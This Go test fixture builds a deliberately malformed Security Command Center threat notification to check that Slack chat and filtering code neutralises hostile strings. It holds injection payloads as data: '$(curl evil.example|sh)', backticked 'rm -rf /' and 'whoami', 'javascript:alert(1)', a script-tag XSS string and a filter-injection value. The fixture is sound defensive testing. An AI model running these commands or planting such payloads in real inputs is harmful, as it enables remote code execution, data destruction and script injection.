package sccfake

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
)

// Placeholders spliced into the encoded JSON, because encoding/json would
// repair what they stand for.
const (
	badUTF8       = "@@BAD_UTF8@@"
	loneSurrogate = "@@LONE_SURROGATE@@"
)

// HostileFindingName is the name of the finding in Hostile.
const HostileFindingName = "organizations/123456789012/sources/11434510651542839261/locations/global/findings/b4dc0ffee0ddba11b4dc0ffee0ddba11"

// HostileArgs is how many process arguments Hostile carries.
const HostileArgs = 300

// hostileStrings are the payloads chat and filter code must neutralise:
// Slack mentions and links, mrkdwn, code fences, newlines, quotes and
// backslashes, bidi overrides and zero-width characters.
func hostileStrings() []string {
	return []string{
		"<!channel>", "<!here>", "<@U123>", "<#C123|general>", "<https://evil.example|x>",
		"`whoami`", "```\nblock\n```", "*bold* _it_ ~strike~ >quote", "line1\nline2\r\nline3",
		`quote"back\slash`, "&amp; &lt; &gt;", "bad " + badUTF8 + " utf8", "\u202egnp.exe",
		"zero\u200bwidth", "$(curl evil.example|sh)", "%0a%0d", "{{template}}", "javascript:alert(1)",
	}
}

// Hostile returns a v2 notification whose strings are hostile: a 10 KB
// argument, 300 arguments, raw invalid UTF-8 bytes and a lone UTF-16
// surrogate escape, Slack control sequences, backticks and newlines in pod,
// container and namespace names, quotes and backslashes in names, unknown
// fields and made-up MITRE enum names. The category is real, so the finding
// is routed like any other.
func Hostile() []byte {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false) // keep < > & raw, as a careless producer would
	if err := enc.Encode(hostileMessage()); err != nil {
		panic("sccfake: encode hostile notification: " + err.Error())
	}
	out := bytes.ReplaceAll(buf.Bytes(), []byte(badUTF8), []byte("\xff\xfe\xc3("))
	return bytes.ReplaceAll(out, []byte(loneSurrogate), []byte(`\udc00`))
}

func hostileMessage() map[string]any {
	ns := "pay`ments\n<!channel>"
	pod := "checkout\"pod\\x\n`rm -rf /`"
	container := "<@U123>`c`\nontainer"
	image := "<https://evil.example|x>"
	resource := `//container.googleapis.com/projects/demo-prod/locations/us-central1/clusters/prod"clu\ster`
	return map[string]any{
		"notificationConfigName": "organizations/123456789012/locations/global/notificationConfigs/sccbot-container-threats",
		"finding":                hostileFinding(resource, ns, pod, container, image),
		"resource": map[string]any{
			"name":        resource,
			"displayName": "prod\"clu\\ster <!channel>",
			"type":        "google.container.Cluster",
			"gcpMetadata": map[string]any{
				"project":            "//cloudresourcemanager.googleapis.com/projects/456789012345",
				"projectDisplayName": `demo-prod" OR resource.type="x`,
				"organization":       "organizations/123456789012",
			},
		},
	}
}

func hostileFinding(resource, ns, pod, container, image string) map[string]any {
	c := map[string]any{"name": container, "uri": image, "imageId": "sha256:<!channel>"}
	return map[string]any{
		"name":              HostileFindingName,
		"parent":            "organizations/123456789012/sources/11434510651542839261/locations/global",
		"resourceName":      resource,
		"state":             "ACTIVE",
		"category":          "Defense Evasion: Launch Code Compiler Tool In Container",
		"severity":          "HIGH",
		"findingClass":      "THREAT",
		"eventTime":         "2026-11-20T12:00:00.000000001Z",
		"createTime":        "2026-11-20T12:00:01Z",
		"parentDisplayName": "Container Threat Detection",
		"findingProviderId": "unknown-to-this-build",
		"someFutureField":   map[string]any{"nested": []any{1, "two", nil}},
		"description":       "<!channel> click <https://evil.example|here> *now* " + badUTF8 + " " + loneSurrogate,
		"nextSteps":         "```\n`rm -rf /`\n```",
		"externalUri":       "javascript:alert(1)",
		"mitreAttack": map[string]any{
			"primaryTactic":     "DEFENSE_EVASION",
			"primaryTechniques": []string{"COMPILE_AFTER_DELIVERY", "MADE_UP_TECHNIQUE_FROM_THE_FUTURE"},
			"additionalTactics": []string{"NOT_A_TACTIC"},
		},
		"sourceProperties": map[string]any{
			"Pod_Namespace": ns, "Pod_Name": pod, "Container_Name": container,
			"Container_Image_Uri": image, "VM_Instance_Name": "node\"\\<!here>",
		},
		"processes":  []any{hostileProcess()},
		"files":      []any{map[string]any{"path": "/tmp/<!channel>", "sha256": "not-a-hash`<>"}},
		"containers": []any{c},
		"kubernetes": map[string]any{
			"pods":  []any{map[string]any{"ns": ns, "name": pod, "containers": []any{c}}},
			"nodes": []any{map[string]any{"name": "node\"\\<!here>"}},
		},
		"contacts": map[string]any{"security": map[string]any{
			"contacts": []any{map[string]any{"email": "<!channel>@example.com"}}}},
		"indicator": map[string]any{
			"domains":     []string{"evil.example\n<!here>"},
			"ipAddresses": []string{"203.0.113.9"},
			"uris":        []string{"javascript:alert(1)", "https://evil.example/<x>"},
		},
	}
}

func hostileProcess() map[string]any {
	binary := "/tmp/`id`/<https://evil.example|x>/gcc" + badUTF8
	long := "<!channel>" + strings.Repeat("A", 10*1024) + "<!here>"
	args := []string{binary, long}
	hs := hostileStrings()
	for i := len(args); i < HostileArgs; i++ {
		args = append(args, fmt.Sprintf("%d:%s", i, hs[i%len(hs)]))
	}
	return map[string]any{
		"name":               "gcc<!channel>",
		"binary":             map[string]any{"path": binary, "sha256": `"><script>alert(1)</script>`},
		"args":               args,
		"argumentsTruncated": true,
		"pid":                "4242",
		"parentPid":          "1",
	}
}
